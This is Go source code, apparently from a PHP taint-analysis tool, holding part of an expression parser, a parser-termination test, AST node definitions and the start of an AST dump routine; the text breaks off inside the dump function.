	left := p.parseKeywordXor()
	for p.at(token.KwOr) {
		op := p.advance()
		right := p.parseKeywordXor()
		left = p.binary(op.Kind, left, right)
	}
	return left
}

func (p *parser) parseKeywordXor() ast.Expr {
	left := p.parseKeywordAnd()
	for p.at(token.KwXor) {
		op := p.advance()
		right := p.parseKeywordAnd()
		left = p.binary(op.Kind, left, right)
	}
	return left
}

func (p *parser) parseKeywordAnd() ast.Expr {
	left := p.parseAssignLevel()
	for p.at(token.KwAnd) {
		op := p.advance()
		right := p.parseAssignLevel()
		left = p.binary(op.Kind, left, right)
	}
	return left
}

func isAssignOp(k token.Kind) bool {
	switch k {
	case token.Assign, token.ConcatAssign, token.PlusAssign, token.MinusAssign,
		token.StarAssign, token.SlashAssign, token.PercentAssign:
		return true
	}
	return false
}

// parseAssignLevel parses assignment (right-associative) and everything
// tighter.
func (p *parser) parseAssignLevel() ast.Expr {
	left := p.parseTernary()
	if left == nil || !isAssignOp(p.kind()) {
		return left
	}
	op := p.advance()
	byRef := false
	if op.Kind == token.Assign {
		if _, ok := p.accept(token.Amp); ok {
			byRef = true
		}
	}
	right := p.parseAssignLevel()
	end := p.prevEnd()
	if right != nil {
		end = right.End()
	}
	return &ast.Assign{
		Span:  span(left.Pos(), end),
		Op:    op.Kind,
		LHS:   left,
		RHS:   right,
		ByRef: byRef,
	}
}

func (p *parser) prevEnd() int {
	if p.pos > 0 {
		return p.toks[p.pos-1].End
	}
	return 0
}

func (p *parser) parseTernary() ast.Expr {
	cond := p.parseBinary(0)
	if cond == nil || !p.at(token.Question) {
		return cond
	}
	p.advance()
	var then ast.Expr
	if !p.at(token.Colon) {
		then = p.parseExprNoAssignKw()
	}
	p.expect(token.Colon)
	els := p.parseExprNoAssignKw()
	end := p.prevEnd()
	if els != nil {
		end = els.End()
	}
	return &ast.Ternary{Span: span(cond.Pos(), end), Cond: cond, Then: then, Else: els}
}

// parseExprNoAssignKw parses the expression level below keyword logicals
// (for ternary arms, where "or"/"and" would not bind inside).
func (p *parser) parseExprNoAssignKw() ast.Expr {
	return p.parseAssignLevel()
}

// binLevels defines binary operator precedence from loosest to tightest.
var binLevels = [][]token.Kind{
	{token.OrOr},
	{token.AndAnd},
	{token.Pipe},
	{token.Caret},
	{token.Amp},
	{token.Eq, token.NotEq, token.Identical, token.NotIdent},
	{token.Lt, token.Gt, token.LtEq, token.GtEq},
	{token.Shl, token.Shr},
	{token.Plus, token.Minus, token.Dot},
	{token.Star, token.Slash, token.Percent},
}

func (p *parser) parseBinary(level int) ast.Expr {
	if level >= len(binLevels) {
		return p.parseUnary()
	}
	left := p.parseBinary(level + 1)
	for {
		matched := false
		for _, k := range binLevels[level] {
			if p.at(k) {
				op := p.advance()
				right := p.parseBinary(level + 1)
				left = p.binary(op.Kind, left, right)
				matched = true
				break
			}
		}
		if !matched {
			return left
		}
	}
}

func (p *parser) binary(op token.Kind, l, r ast.Expr) ast.Expr {
	start := p.cur().Pos
	end := p.prevEnd()
	if l != nil {
		start = l.Pos()
	}
	if r != nil {
		end = r.End()
	}
	return &ast.Binary{Span: span(start, end), Op: op, L: l, R: r}
}

func (p *parser) parseUnary() ast.Expr {
	start := p.cur().Pos
	switch p.kind() {
	case token.Not, token.Minus, token.Plus, token.Tilde, token.At:
		op := p.advance()
		x := p.parseUnary()
		end := p.prevEnd()
		if x != nil {
			end = x.End()
		}
		return &ast.Unary{Span: span(start, end), Op: op.Kind, X: x}
	case token.Inc, token.Dec:
		op := p.advance()
		x := p.parseUnary()
		end := p.prevEnd()
		if x != nil {
			end = x.End()
		}
		return &ast.Unary{Span: span(start, end), Op: op.Kind, X: x}
	case token.KwNew:
		p.advance()
		cls := p.expect(token.Ident)
		var args []ast.Expr
		if p.at(token.LParen) {
			p.advance()
			args = p.parseExprListUntil(token.RParen)
			p.expect(token.RParen)
		}
		return &ast.New{Span: span(start, p.prevEnd()), Class: cls.Text, Args: args}
	case token.KwPrint:
		p.advance()
		arg := p.parseAssignLevel()
		if arg == nil {
			p.errorf("expected expression after print")
			return nil
		}
		return &ast.Call{
			Span: span(start, arg.End()),
			Func: &ast.ConstFetch{Span: span(start, start.Offset+len("print")), Name: "print"},
			Args: []ast.Expr{arg},
		}
	case token.KwInclude, token.KwIncludeOnce, token.KwRequire, token.KwRequireOnce:
		kw := p.advance()
		// Parenthesized form include('f') or bare include 'f'.
		path := p.parseAssignLevel()
		if path == nil {
			p.errorf("expected path after %s", kw.Kind)
			return nil
		}
		return &ast.IncludeExpr{Span: span(start, path.End()), Kind: kw.Kind, Path: path}
	}
	return p.parsePostfix()
}

func (p *parser) parsePostfix() ast.Expr {
	e := p.parsePrimary()
	e = p.parsePostfixOps(e)
	if e == nil {
		return nil
	}
	// Postfix increment/decrement.
	for p.at(token.Inc) || p.at(token.Dec) {
		op := p.advance()
		e = &ast.Unary{Span: span(e.Pos(), op.End), Op: op.Kind, X: e, Postfix: true}
	}
	return e
}

// parsePostfixOps applies chains of [index], ->prop, ->method(), and call
// suffixes to a primary expression.
func (p *parser) parsePostfixOps(e ast.Expr) ast.Expr {
	if e == nil {
		return nil
	}
	for {
		switch p.kind() {
		case token.LBracket:
			p.advance()
			var key ast.Expr
			if !p.at(token.RBracket) {
				key = p.parseExpr()
			}
			rb := p.expect(token.RBracket)
			e = &ast.Index{Span: span(e.Pos(), rb.End), Arr: e, Key: key}
		case token.LBrace:
			// String offset syntax $s{0}: only valid directly after a
			// variable-rooted expression; treat like an index. Skip unless
			// the brace is immediately followed by an expression and a
			// matching '}' — otherwise it is a block.
			if !isVarRooted(e) {
				return e
			}
			p.advance()
			key := p.parseExpr()
			rb := p.expect(token.RBrace)
			e = &ast.Index{Span: span(e.Pos(), rb.End), Arr: e, Key: key}
		case token.Arrow:
			p.advance()
			name := p.expect(token.Ident)
			if p.at(token.LParen) {
				p.advance()
				args := p.parseExprListUntil(token.RParen)
				rp := p.expect(token.RParen)
				e = &ast.MethodCall{Span: span(e.Pos(), rp.End), Obj: e, Name: name.Text, Args: args}
			} else {
				e = &ast.Prop{Span: span(e.Pos(), name.End), Obj: e, Name: name.Text}
			}
		case token.LParen:
			// Call on a variable function ($f()) or on a ConstFetch (f()).
			switch e.(type) {
			case *ast.Var, *ast.ConstFetch, *ast.Index, *ast.Prop:
				p.advance()
				args := p.parseExprListUntil(token.RParen)
				rp := p.expect(token.RParen)
				e = &ast.Call{Span: span(e.Pos(), rp.End), Func: e, Args: args}
			default:
				return e
			}
		default:
			return e
		}
	}
}

func isVarRooted(e ast.Expr) bool {
	switch e := e.(type) {
	case *ast.Var, *ast.VarVar:
		return true
	case *ast.Index:
		return isVarRooted(e.Arr)
	case *ast.Prop:
		return isVarRooted(e.Obj)
	default:
		return false
	}
}

func (p *parser) parsePrimary() ast.Expr {
	t := p.cur()
	switch t.Kind {
	case token.Variable:
		p.advance()
		return &ast.Var{Span: span(t.Pos, t.End), Name: t.Text}

	case token.Dollar:
		p.advance()
		if p.at(token.LBrace) {
			p.advance()
			inner := p.parseExpr()
			rb := p.expect(token.RBrace)
			return &ast.VarVar{Span: span(t.Pos, rb.End), Inner: inner}
		}
		inner := p.parsePrimary()
		end := p.prevEnd()
		if inner != nil {
			end = inner.End()
		}
		return &ast.VarVar{Span: span(t.Pos, end), Inner: inner}

	case token.IntLit:
		p.advance()
		v, _ := strconv.ParseInt(t.Text, 0, 64)
		return &ast.IntLit{Span: span(t.Pos, t.End), Raw: t.Text, Value: v}

	case token.FloatLit:
		p.advance()
		v, _ := strconv.ParseFloat(t.Text, 64)
		return &ast.FloatLit{Span: span(t.Pos, t.End), Raw: t.Text, Value: v}

	case token.StringLit:
		p.advance()
		return &ast.StringLit{Span: span(t.Pos, t.End), Value: t.Text}

	case token.InterpString, token.HeredocString:
		p.advance()
		return p.buildInterp(t)

	case token.BacktickString:
		// `cmd $arg` executes through the shell: desugar to
		// shell_exec("cmd $arg") so the SOC precondition applies.
		p.advance()
		arg := p.buildInterp(t)
		return &ast.Call{
			Span: span(t.Pos, t.End),
			Func: &ast.ConstFetch{Span: span(t.Pos, t.End), Name: "shell_exec"},
			Args: []ast.Expr{arg},
		}

	case token.KwTrue:
		p.advance()
		return &ast.BoolLit{Span: span(t.Pos, t.End), Value: true}
	case token.KwFalse:
		p.advance()
		return &ast.BoolLit{Span: span(t.Pos, t.End), Value: false}
	case token.KwNull:
		p.advance()
		return &ast.NullLit{Span: span(t.Pos, t.End)}

	case token.KwArray:
		p.advance()
		p.expect(token.LParen)
		node := &ast.ArrayLit{}
		for !p.at(token.RParen) && !p.at(token.EOF) {
			item := ast.ArrayItem{Val: p.parseAssignLevel()}
			if _, ok := p.accept(token.DoubleArrow); ok {
				item.Key = item.Val
				p.accept(token.Amp)
				item.Val = p.parseAssignLevel()
			}
			node.Items = append(node.Items, item)
			if _, ok := p.accept(token.Comma); !ok {
				break
			}
		}
		rp := p.expect(token.RParen)
		node.Span = span(t.Pos, rp.End)
		return node

	case token.KwList:
		p.advance()
		p.expect(token.LParen)
		node := &ast.ListExpr{}
		for !p.at(token.RParen) && !p.at(token.EOF) {
			if p.at(token.Comma) {
				node.Targets = append(node.Targets, nil)
				p.advance()
				continue
			}
			node.Targets = append(node.Targets, p.parseLValue())
			if _, ok := p.accept(token.Comma); !ok {
				break
			}
		}
		rp := p.expect(token.RParen)
		node.Span = span(t.Pos, rp.End)
		return node

	case token.KwIsset:
		p.advance()
		p.expect(token.LParen)
		args := p.parseExprListUntil(token.RParen)
		rp := p.expect(token.RParen)
		return &ast.IssetExpr{Span: span(t.Pos, rp.End), Args: args}

	case token.KwEmpty:
		p.advance()
		p.expect(token.LParen)
		arg := p.parseExpr()
		rp := p.expect(token.RParen)
		return &ast.EmptyExpr{Span: span(t.Pos, rp.End), Arg: arg}

	case token.KwFunction:
		return p.parseClosure()

	case token.KwExit, token.KwDie:
		p.advance()
		node := &ast.ExitExpr{}
		if p.at(token.LParen) {
			p.advance()
			if !p.at(token.RParen) {
				node.Arg = p.parseExpr()
			}
			p.expect(token.RParen)
		}
		node.Span = span(t.Pos, p.prevEnd())
		return node

	case token.LParen:
		// Distinguish a cast "(int)$x" from a parenthesized expression.
		if castTo, ok := castTarget(p); ok {
			p.advance() // (
			ident := p.advance()
			p.expect(token.RParen)
			x := p.parseUnary()
			end := p.prevEnd()
			if x != nil {
				end = x.End()
			}
			_ = ident
			return &ast.Cast{Span: span(t.Pos, end), To: castTo, X: x}
		}
		p.advance()
		e := p.parseExpr()
		p.expect(token.RParen)
		return e

	case token.Ident:
		p.advance()
		if p.at(token.DoubleColon) {
			p.advance()
			name := p.expect(token.Ident)
			p.expect(token.LParen)
			args := p.parseExprListUntil(token.RParen)
			rp := p.expect(token.RParen)
			return &ast.StaticCall{
				Span:  span(t.Pos, rp.End),
				Class: t.Text, Name: name.Text, Args: args,
			}
		}
		return &ast.ConstFetch{Span: span(t.Pos, t.End), Name: t.Text}

	default:
		p.errorf("unexpected %v in expression", t)
		// Do not consume statement terminators: leaving them in place lets
		// the statement parser resynchronize without losing the next
		// statement.
		switch t.Kind {
		case token.Semicolon, token.RBrace, token.RParen, token.RBracket,
			token.CloseTag, token.EOF:
		default:
			p.advance()
		}
		return nil
	}
}

// parseClosure parses an anonymous function expression:
// function (params) [use ($a, &$b)] { body }. The optional leading '&'
// (by-reference return) is accepted and ignored, as in parseFunction.
func (p *parser) parseClosure() ast.Expr {
	t := p.advance() // function
	p.accept(token.Amp)
	params := p.parseParams()
	node := &ast.Closure{Params: params}
	if p.at(token.Ident) && strings.EqualFold(p.cur().Text, "use") {
		p.advance()
		p.expect(token.LParen)
		for !p.at(token.RParen) && !p.at(token.EOF) {
			var u ast.ClosureUse
			if _, ok := p.accept(token.Amp); ok {
				u.ByRef = true
			}
			v := p.expect(token.Variable)
			u.Name = v.Text
			node.Uses = append(node.Uses, u)
			if _, ok := p.accept(token.Comma); !ok {
				break
			}
		}
		p.expect(token.RParen)
	}
	node.Body = p.parseBody()
	node.Span = span(t.Pos, p.prevEnd())
	return node
}

// castTarget reports whether the parser sits on a cast "(<type>)" and
// returns the lower-cased cast target.
func castTarget(p *parser) (string, bool) {
	if p.kind() != token.LParen {
		return "", false
	}
	mid := p.toks[p.pos+1]
	if p.pos+2 >= len(p.toks) || p.toks[p.pos+2].Kind != token.RParen {
		return "", false
	}
	var name string
	switch mid.Kind {
	case token.Ident:
		name = ast.LowerName(mid.Text)
	case token.KwArray:
		name = "array"
	default:
		return "", false
	}
	switch name {
	case "int", "integer", "float", "double", "real", "bool", "boolean",
		"string", "array", "object", "unset":
		return name, true
	default:
		return "", false
	}
}

// buildInterp converts a raw interpolated string token into an Interp node
// (or a plain StringLit when there is nothing to interpolate). Embedded
// expressions are re-parsed; their spans are approximated by the span of
// the whole string token, which is sufficient for reporting.
func (p *parser) buildInterp(t token.Token) ast.Expr {
	segs := lexer.SplitInterp(t.Text)
	sp := span(t.Pos, t.End)
	if len(segs) == 0 {
		return &ast.StringLit{Span: sp, Value: ""}
	}
	if len(segs) == 1 && segs[0].Kind == lexer.SegText {
		return &ast.StringLit{Span: sp, Value: segs[0].Text}
	}
	node := &ast.Interp{Span: sp}
	for _, seg := range segs {
		if seg.Kind == lexer.SegText {
			node.Parts = append(node.Parts, &ast.StringLit{Span: sp, Value: seg.Text})
			continue
		}
		e, errs := ParseExprString(t.Pos.File, seg.Text)
		if len(errs) > 0 || e == nil {
			p.errs = append(p.errs, &Error{
				Pos: t.Pos,
				Msg: "cannot parse interpolated expression " + strconv.Quote(seg.Text),
			})
			node.Parts = append(node.Parts, &ast.StringLit{Span: sp, Value: seg.Text})
			continue
		}
		retarget(e, sp)
		node.Parts = append(node.Parts, e)
	}
	return node
}

// retarget rewrites the spans of a re-parsed embedded expression tree to
// point at the enclosing string token, so positions always refer to real
// source locations.
func retarget(e ast.Expr, sp ast.Span) {
	switch e := e.(type) {
	case *ast.Var:
		e.Span = sp
	case *ast.VarVar:
		e.Span = sp
		retarget(e.Inner, sp)
	case *ast.Index:
		e.Span = sp
		retarget(e.Arr, sp)
		if e.Key != nil {
			retarget(e.Key, sp)
		}
	case *ast.Prop:
		e.Span = sp
		retarget(e.Obj, sp)
	case *ast.StringLit:
		e.Span = sp
	case *ast.IntLit:
		e.Span = sp
	case *ast.Binary:
		e.Span = sp
		retarget(e.L, sp)
		retarget(e.R, sp)
	case *ast.Call:
		e.Span = sp
		retarget(e.Func, sp)
		for _, a := range e.Args {
			retarget(a, sp)
		}
	case *ast.MethodCall:
		e.Span = sp
		retarget(e.Obj, sp)
		for _, a := range e.Args {
			retarget(a, sp)
		}
	}
}
