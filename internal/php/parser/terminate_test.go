package parser

import (
	"testing"
	"time"
)

// TestParseTerminates pins termination on inputs that historically made
// error recovery spin: synchronize stops *before* statement keywords, so
// any recovery loop without its own statement parser must force progress.
func TestParseTerminates(t *testing.T) {
	inputs := []string{
		`<?php class C { funxtion m($v) { return $v; } } $o = new C(); echo $o->m($_POST['y']);`,
		`<?php class C { @ if }`,
		`<?php switch ($x) { if }`,
		`<?php switch ($x) { case 1: echo 1; class }`,
		`<?php class C { var }`,
		`<?eCho`,
		`<?inClude`,
		`<?foreACh`,
	}
	for _, src := range inputs {
		src := src
		done := make(chan struct{})
		go func() {
			Parse("terminates.php", []byte(src))
			close(done)
		}()
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			t.Fatalf("parse hung on %q", src)
		}
	}
}
