// Package ast defines the abstract syntax tree of the PHP subset. Every
// node carries its source span (start position and end byte offset) so that
// later stages — error reports, counterexample traces, and the automated
// patcher — can point back into the original source text.
package ast

import (
	"webssari/internal/php/token"
)

// Node is the interface implemented by all AST nodes.
type Node interface {
	// Pos returns the position of the first character of the node.
	Pos() token.Pos
	// End returns the byte offset one past the last character of the node.
	End() int
}

// Span is the source extent shared by all nodes. It is embedded in every
// concrete node type; parsers populate it directly.
type Span struct {
	Start   token.Pos
	StopOff int
}

// Pos implements Node.
func (s Span) Pos() token.Pos { return s.Start }

// End implements Node.
func (s Span) End() int { return s.StopOff }

// Expr is implemented by all expression nodes.
type Expr interface {
	Node
	exprNode()
}

// Stmt is implemented by all statement nodes.
type Stmt interface {
	Node
	stmtNode()
}

// ---------------------------------------------------------------- literals

// IntLit is an integer literal. Raw keeps the original spelling (e.g. hex).
type IntLit struct {
	Span
	Raw   string
	Value int64
}

// FloatLit is a floating-point literal.
type FloatLit struct {
	Span
	Raw   string
	Value float64
}

// StringLit is a string constant with no interpolation: single-quoted
// strings, nowdocs, and the decoded text pieces of double-quoted strings.
type StringLit struct {
	Span
	Value string
}

// BoolLit is true or false.
type BoolLit struct {
	Span
	Value bool
}

// NullLit is the null constant.
type NullLit struct {
	Span
}

// Interp is a double-quoted string or heredoc with embedded expressions.
// Parts alternate between *StringLit and arbitrary expressions; evaluation
// concatenates them, so information flow joins all part types.
type Interp struct {
	Span
	Parts []Expr
}

// ArrayItem is one element of an array() literal.
type ArrayItem struct {
	Key Expr // nil when no explicit key
	Val Expr
}

// ArrayLit is an array(...) literal.
type ArrayLit struct {
	Span
	Items []ArrayItem
}

// ConstFetch is a bare identifier used as a constant (e.g. PHP_SELF, or an
// unquoted string as PHP 4 tolerated).
type ConstFetch struct {
	Span
	Name string
}

// ---------------------------------------------------------------- lvalues

// Var is a simple variable $name (Name excludes the dollar sign).
type Var struct {
	Span
	Name string
}

// VarVar is a variable variable $$x or ${expr}.
type VarVar struct {
	Span
	Inner Expr
}

// Index is an array access $a[k]; Key is nil for the append form $a[].
type Index struct {
	Span
	Arr Expr
	Key Expr
}

// Prop is a property access $obj->name.
type Prop struct {
	Span
	Obj  Expr
	Name string
}

// ------------------------------------------------------------- operations

// Cast is a type cast (int)$x, (string)$x, …; To is the lower-cased cast
// target. Numeric and boolean casts are sanitizing in the information-flow
// model (their results cannot carry attacker-controlled strings).
type Cast struct {
	Span
	To string
	X  Expr
}

// Sanitizing reports whether the cast's result type cannot carry string
// payloads (int/integer/float/double/bool/boolean).
func (c *Cast) Sanitizing() bool {
	switch c.To {
	case "int", "integer", "float", "double", "real", "bool", "boolean":
		return true
	default:
		return false
	}
}

// Unary is a prefix or postfix unary operation: ! - + ~ @ ++ --.
type Unary struct {
	Span
	Op      token.Kind
	X       Expr
	Postfix bool // true for x++ / x--
}

// Binary is a binary operation, including comparison, arithmetic, logical,
// bitwise, and string concatenation (token.Dot).
type Binary struct {
	Span
	Op token.Kind
	L  Expr
	R  Expr
}

// Assign is an assignment expression; Op distinguishes = .= += etc.
// ByRef marks reference assignment ($a = &$b).
type Assign struct {
	Span
	Op    token.Kind
	LHS   Expr
	RHS   Expr
	ByRef bool
}

// Ternary is cond ? then : else; Then is nil for the short form cond ?: else.
type Ternary struct {
	Span
	Cond Expr
	Then Expr
	Else Expr
}

// ----------------------------------------------------------------- calls

// Call is a function call. Func is usually a *ConstFetch naming the
// function, but may be a *Var for variable functions ($f()).
type Call struct {
	Span
	Func Expr
	Args []Expr
}

// FuncName returns the lower-cased static name of the called function, or
// "" when the callee is dynamic. PHP function names are case-insensitive.
func (c *Call) FuncName() string {
	if cf, ok := c.Func.(*ConstFetch); ok {
		return LowerName(cf.Name)
	}
	return ""
}

// MethodCall is $obj->name(args).
type MethodCall struct {
	Span
	Obj  Expr
	Name string
	Args []Expr
}

// StaticCall is Class::name(args).
type StaticCall struct {
	Span
	Class string
	Name  string
	Args  []Expr
}

// New is object construction: new Class(args).
type New struct {
	Span
	Class string
	Args  []Expr
}

// IncludeExpr is include/require/include_once/require_once, which in PHP is
// an expression. Kind is the keyword token kind.
type IncludeExpr struct {
	Span
	Kind token.Kind
	Path Expr
}

// IssetExpr is isset(args).
type IssetExpr struct {
	Span
	Args []Expr
}

// EmptyExpr is empty(arg).
type EmptyExpr struct {
	Span
	Arg Expr
}

// ListExpr is list($a, $b) used as an assignment target; nil entries stand
// for skipped positions (list(, $b)).
type ListExpr struct {
	Span
	Targets []Expr
}

// ExitExpr is exit(arg) or die(arg); Arg may be nil.
type ExitExpr struct {
	Span
	Arg Expr
}

// ClosureUse is one captured variable in a closure's use clause.
type ClosureUse struct {
	Name  string
	ByRef bool
}

// Closure is an anonymous function expression:
// function (params) use ($a, &$b) { body }.
type Closure struct {
	Span
	Params []Param
	Uses   []ClosureUse
	Body   []Stmt
}

// ---------------------------------------------------------------- statements

// ExprStmt is an expression evaluated for effect.
type ExprStmt struct {
	Span
	X Expr
}

// EchoStmt is echo e1, e2, …; or print e; or <?= e ?>.
type EchoStmt struct {
	Span
	Args []Expr
}

// InlineHTMLStmt is literal output text outside <?php ?>.
type InlineHTMLStmt struct {
	Span
	Text string
}

// ElseifClause is one elseif arm of an IfStmt.
type ElseifClause struct {
	Cond Expr
	Body []Stmt
}

// IfStmt is if/elseif/else.
type IfStmt struct {
	Span
	Cond    Expr
	Then    []Stmt
	Elseifs []ElseifClause
	Else    []Stmt // nil when absent
}

// WhileStmt is a while loop.
type WhileStmt struct {
	Span
	Cond Expr
	Body []Stmt
}

// DoWhileStmt is do { } while (cond);.
type DoWhileStmt struct {
	Span
	Body []Stmt
	Cond Expr
}

// ForStmt is for (init; cond; post) body. PHP allows comma lists in each
// header slot.
type ForStmt struct {
	Span
	Init []Expr
	Cond []Expr
	Post []Expr
	Body []Stmt
}

// ForeachStmt is foreach ($subject as $key => $val) body.
type ForeachStmt struct {
	Span
	Subject Expr
	KeyVar  Expr // nil when no key
	ValVar  Expr
	ByRef   bool
	Body    []Stmt
}

// SwitchCase is one case (or default, when Match is nil) of a SwitchStmt.
type SwitchCase struct {
	Match Expr
	Body  []Stmt
}

// SwitchStmt is a switch statement.
type SwitchStmt struct {
	Span
	Subject Expr
	Cases   []SwitchCase
}

// BreakStmt is break [n];.
type BreakStmt struct {
	Span
	Level int // 1 when no operand
}

// ContinueStmt is continue [n];.
type ContinueStmt struct {
	Span
	Level int
}

// ReturnStmt is return [expr];.
type ReturnStmt struct {
	Span
	X Expr // nil for bare return
}

// GlobalStmt is global $a, $b;.
type GlobalStmt struct {
	Span
	Names []string
}

// StaticVar is one declaration of a StaticStmt.
type StaticVar struct {
	Name string
	Init Expr // nil when uninitialized
}

// StaticStmt is static $a = 0, $b;.
type StaticStmt struct {
	Span
	Vars []StaticVar
}

// UnsetStmt is unset($a, $b);.
type UnsetStmt struct {
	Span
	Args []Expr
}

// Param is a function parameter.
type Param struct {
	Name    string
	ByRef   bool
	Default Expr // nil when required
}

// FunctionDecl declares a function (or a method, inside ClassDecl).
type FunctionDecl struct {
	Span
	Name   string
	Params []Param
	Body   []Stmt
}

// PropDecl is a class property declaration (var $x = default;).
type PropDecl struct {
	Name    string
	Default Expr
}

// ClassDecl declares a class. Only the structure needed to resolve method
// bodies for call unfolding is retained.
type ClassDecl struct {
	Span
	Name    string
	Parent  string
	Props   []PropDecl
	Methods []*FunctionDecl
}

// BlockStmt is an explicit { } block.
type BlockStmt struct {
	Span
	Body []Stmt
}

// NopStmt is an empty statement (stray semicolon).
type NopStmt struct {
	Span
}

// File is a parsed source file.
type File struct {
	Name  string
	Stmts []Stmt
}

// marker methods

func (*IntLit) exprNode()      {}
func (*FloatLit) exprNode()    {}
func (*StringLit) exprNode()   {}
func (*BoolLit) exprNode()     {}
func (*NullLit) exprNode()     {}
func (*Interp) exprNode()      {}
func (*ArrayLit) exprNode()    {}
func (*ConstFetch) exprNode()  {}
func (*Var) exprNode()         {}
func (*VarVar) exprNode()      {}
func (*Index) exprNode()       {}
func (*Prop) exprNode()        {}
func (*Cast) exprNode()        {}
func (*Unary) exprNode()       {}
func (*Binary) exprNode()      {}
func (*Assign) exprNode()      {}
func (*Ternary) exprNode()     {}
func (*Call) exprNode()        {}
func (*MethodCall) exprNode()  {}
func (*StaticCall) exprNode()  {}
func (*New) exprNode()         {}
func (*IncludeExpr) exprNode() {}
func (*IssetExpr) exprNode()   {}
func (*EmptyExpr) exprNode()   {}
func (*ListExpr) exprNode()    {}
func (*ExitExpr) exprNode()    {}
func (*Closure) exprNode()     {}

func (*ExprStmt) stmtNode()       {}
func (*EchoStmt) stmtNode()       {}
func (*InlineHTMLStmt) stmtNode() {}
func (*IfStmt) stmtNode()         {}
func (*WhileStmt) stmtNode()      {}
func (*DoWhileStmt) stmtNode()    {}
func (*ForStmt) stmtNode()        {}
func (*ForeachStmt) stmtNode()    {}
func (*SwitchStmt) stmtNode()     {}
func (*BreakStmt) stmtNode()      {}
func (*ContinueStmt) stmtNode()   {}
func (*ReturnStmt) stmtNode()     {}
func (*GlobalStmt) stmtNode()     {}
func (*StaticStmt) stmtNode()     {}
func (*UnsetStmt) stmtNode()      {}
func (*FunctionDecl) stmtNode()   {}
func (*ClassDecl) stmtNode()      {}
func (*BlockStmt) stmtNode()      {}
func (*NopStmt) stmtNode()        {}

// LowerName lower-cases an ASCII identifier; PHP function and class names
// are case-insensitive.
func LowerName(s string) string {
	hasUpper := false
	for i := 0; i < len(s); i++ {
		if s[i] >= 'A' && s[i] <= 'Z' {
			hasUpper = true
			break
		}
	}
	if !hasUpper {
		return s
	}
	b := []byte(s)
	for i, c := range b {
		if c >= 'A' && c <= 'Z' {
			b[i] = c + ('a' - 'A')
		}
	}
	return string(b)
}
