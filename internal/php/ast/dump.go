package ast

import (
	"fmt"
	"strconv"
	"strings"
)

// Dump renders a node as a compact s-expression, independent of source
// formatting. It is the canonical structural form used by parser tests
// (two parses are structurally equal iff their dumps are equal).
func Dump(n Node) string {
	var b strings.Builder
	dumpNode(&b, n)
	return b.String()
}

// DumpStmts dumps a statement list.
func DumpStmts(stmts []Stmt) string {
	var b strings.Builder
	dumpStmtList(&b, stmts)
	return b.String()
}

func dumpStmtList(b *strings.Builder, stmts []Stmt) {
	b.WriteByte('[')
	for i, s := range stmts {
		if i > 0 {
			b.WriteByte(' ')
		}
		dumpNode(b, s)
	}
	b.WriteByte(']')
}

func dumpExprList(b *strings.Builder, exprs []Expr) {
	for i, e := range exprs {
		if i > 0 {
			b.WriteByte(' ')
		}
		dumpNode(b, e)
	}
}

func dumpNode(b *strings.Builder, n Node) {
	switch n := n.(type) {
	case nil:
		b.WriteString("nil")

	case *IntLit:
		fmt.Fprintf(b, "(int %s)", n.Raw)
	case *FloatLit:
		fmt.Fprintf(b, "(float %s)", n.Raw)
	case *StringLit:
		fmt.Fprintf(b, "(str %s)", strconv.Quote(n.Value))
	case *BoolLit:
		fmt.Fprintf(b, "(bool %v)", n.Value)
	case *NullLit:
		b.WriteString("(null)")
	case *Interp:
		// Interpolation is semantically a left-associated concatenation of
		// its parts; dumping it in that shape makes the dump agree with the
		// printer's normalized output ("a $b" prints as 'a ' . $b).
		if len(n.Parts) == 0 {
			b.WriteString(`(str "")`)
			return
		}
		for i := 1; i < len(n.Parts); i++ {
			b.WriteString(`("." `)
		}
		dumpNode(b, n.Parts[0])
		for i := 1; i < len(n.Parts); i++ {
			b.WriteByte(' ')
			dumpNode(b, n.Parts[i])
			b.WriteByte(')')
		}
	case *ArrayLit:
		b.WriteString("(array")
		for _, it := range n.Items {
			b.WriteByte(' ')
			if it.Key != nil {
				b.WriteByte('(')
				dumpNode(b, it.Key)
				b.WriteString(" => ")
				dumpNode(b, it.Val)
				b.WriteByte(')')
			} else {
				dumpNode(b, it.Val)
			}
		}
		b.WriteByte(')')
	case *ConstFetch:
		fmt.Fprintf(b, "(const %s)", n.Name)
	case *Var:
		fmt.Fprintf(b, "$%s", n.Name)
	case *VarVar:
		b.WriteString("(varvar ")
		dumpNode(b, n.Inner)
		b.WriteByte(')')
	case *Index:
		b.WriteString("(index ")
		dumpNode(b, n.Arr)
		b.WriteByte(' ')
		dumpNode(b, n.Key)
		b.WriteByte(')')
	case *Prop:
		b.WriteString("(prop ")
		dumpNode(b, n.Obj)
		fmt.Fprintf(b, " %s)", n.Name)
	case *Cast:
		fmt.Fprintf(b, "(cast %s ", n.To)
		dumpNode(b, n.X)
		b.WriteByte(')')
	case *Unary:
		mode := "pre"
		if n.Postfix {
			mode = "post"
		}
		fmt.Fprintf(b, "(%s%q ", mode, n.Op.String())
		dumpNode(b, n.X)
		b.WriteByte(')')
	case *Binary:
		fmt.Fprintf(b, "(%q ", n.Op.String())
		dumpNode(b, n.L)
		b.WriteByte(' ')
		dumpNode(b, n.R)
		b.WriteByte(')')
	case *Assign:
		op := n.Op.String()
		if n.ByRef {
			op = "=&"
		}
		fmt.Fprintf(b, "(%q ", op)
		dumpNode(b, n.LHS)
		b.WriteByte(' ')
		dumpNode(b, n.RHS)
		b.WriteByte(')')
	case *Ternary:
		b.WriteString("(?: ")
		dumpNode(b, n.Cond)
		b.WriteByte(' ')
		dumpNode(b, n.Then)
		b.WriteByte(' ')
		dumpNode(b, n.Else)
		b.WriteByte(')')
	case *Call:
		b.WriteString("(call ")
		dumpNode(b, n.Func)
		if len(n.Args) > 0 {
			b.WriteByte(' ')
			dumpExprList(b, n.Args)
		}
		b.WriteByte(')')
	case *MethodCall:
		fmt.Fprintf(b, "(method ")
		dumpNode(b, n.Obj)
		fmt.Fprintf(b, " %s", n.Name)
		if len(n.Args) > 0 {
			b.WriteByte(' ')
			dumpExprList(b, n.Args)
		}
		b.WriteByte(')')
	case *StaticCall:
		fmt.Fprintf(b, "(static %s::%s", n.Class, n.Name)
		if len(n.Args) > 0 {
			b.WriteByte(' ')
			dumpExprList(b, n.Args)
		}
		b.WriteByte(')')
	case *New:
		fmt.Fprintf(b, "(new %s", n.Class)
		if len(n.Args) > 0 {
			b.WriteByte(' ')
			dumpExprList(b, n.Args)
		}
		b.WriteByte(')')
	case *IncludeExpr:
		fmt.Fprintf(b, "(%s ", n.Kind)
		dumpNode(b, n.Path)
		b.WriteByte(')')
	case *IssetExpr:
		b.WriteString("(isset ")
